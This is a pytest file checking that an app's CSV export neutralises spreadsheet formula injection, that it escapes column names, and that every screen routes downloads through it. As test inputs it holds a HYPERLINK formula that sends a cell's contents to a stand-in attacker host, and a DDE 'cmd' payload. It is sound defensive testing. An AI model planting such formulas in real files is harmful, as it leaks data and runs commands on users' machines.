"""Downloads never carry a live spreadsheet formula, whatever a user typed."""

import io

import pandas as pd
import pytest

from artdash import export


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)",
                                   "\t=1+1", "\r=1+1"])
def test_text_that_would_start_a_formula_is_written_as_text(typed):
    frame = pd.DataFrame({"title": [typed, "Harbour Lights"], "impressions": [12, -3], "lift": [-0.25, 0.1]})
    back = pd.read_csv(io.BytesIO(export.csv_bytes(frame)), keep_default_na=False)
    assert back.loc[0, "title"] == "'" + typed
    assert back.loc[1, "title"] == "Harbour Lights"
    assert list(back["impressions"]) == [12, -3] and list(back["lift"]) == [-0.25, 0.1]  # numbers stay numbers


def test_column_names_are_made_safe_too():
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [1]})
    assert export.csv_bytes(frame).decode().splitlines()[0].startswith("'=")


def test_every_download_on_every_screen_goes_through_it():
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    offenders = [str(p.relative_to(root)) for p in [*root.glob("screens/*.py"), *root.glob("artdash/ui/*.py")]
                 if ".to_csv(" in p.read_text()]
    assert not offenders
